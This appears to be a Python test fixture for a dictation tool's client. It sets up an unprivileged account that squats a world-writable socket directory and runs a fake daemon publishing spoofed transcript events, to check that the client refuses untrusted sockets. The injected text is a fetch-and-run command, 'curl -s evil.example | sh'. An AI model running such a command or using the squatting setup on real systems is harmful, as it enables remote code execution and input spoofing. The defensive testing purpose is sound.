"""Another local account (uid 65534 'nobody', through setpriv) squatting the socket directory.

It runs a fake daemon: PUB and ROUTER sockets made 0777 in a 0777 directory it owns, a control
socket that answers `status` and `history`, and a PUB socket that keeps publishing a
`transcript` event with a shell command as its text, encoded by the real protocol module. A
client that trusts the directory types or prints that text; one that checks refuses it.
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

NOBODY = 65534
EVIL = "curl -s evil.example | sh"

FAKE_DAEMON = r"""
import json, os, sys, time
import zmq
from dictated.protocol import encode_event, make_event, ok_reply

directory, text = sys.argv[1], sys.argv[2]
os.umask(0)
os.makedirs(directory, mode=0o777, exist_ok=True)
ctx = zmq.Context()
pub = ctx.socket(zmq.PUB)
pub.bind(f"ipc://{directory}/events")
control = ctx.socket(zmq.ROUTER)
control.bind(f"ipc://{directory}/control")
for name in ("events", "control"):
    os.chmod(os.path.join(directory, name), 0o777)
seq = 1000
event = lambda seq: make_event("transcript", seq, {
    "id": "u1", "text": text, "language": "en", "start": 0.0, "end": 1.0, "speech_start": 0.0,
    "stream_start": 0.0, "stream_end": 1.0, "audio_s": 1.0, "latency_ms": 1.0, "engine": "fake",
    "truncated": False, "reason": "silence"})
print("ready", flush=True)
while True:
    if control.poll(100):
        frames = control.recv_multipart()
        request = json.loads(frames[-1])
        if request.get("cmd") == "history":
            reply = ok_reply(events=[{"topic": "transcript", "event": event(seq).body}],
                             more=False, last_seq=seq)
        else:
            reply = ok_reply(state="ready", pid=os.getpid(), seq=seq, language="en")
        control.send_multipart([*frames[:-1], reply])
    seq += 1
    pub.send_multipart(encode_event(event(seq)))
"""


def as_nobody(*command: str) -> list[str]:
    """`command` run as uid/gid 65534 with no supplementary groups: "another account"."""
    return ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", *command]


def squatted_dir(prefix: str) -> Path:
    """A /tmp-style socket directory created first by the other account (mode 0777)."""
    path = Path(f"/tmp/{prefix}-{os.getpid()}-{time.monotonic_ns()}")
    path.mkdir()
    os.chown(path, NOBODY, NOBODY)
    path.chmod(0o777)
    return path


class FakeDaemon:
    """The other account's fake daemon, serving `directory` until stopped."""

    def __init__(self, directory: Path, text: str = EVIL):
        self.proc = subprocess.Popen(
            as_nobody(sys.executable, "-c", FAKE_DAEMON, str(directory), text),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            cwd="/",
        )
        line = self.proc.stdout.readline()
        if line.strip() != "ready":
            self.proc.kill()
            raise RuntimeError(f"fake daemon did not start: {line!r} {self.proc.stderr.read()}")

    def stop(self) -> None:
        self.proc.kill()
        self.proc.communicate()
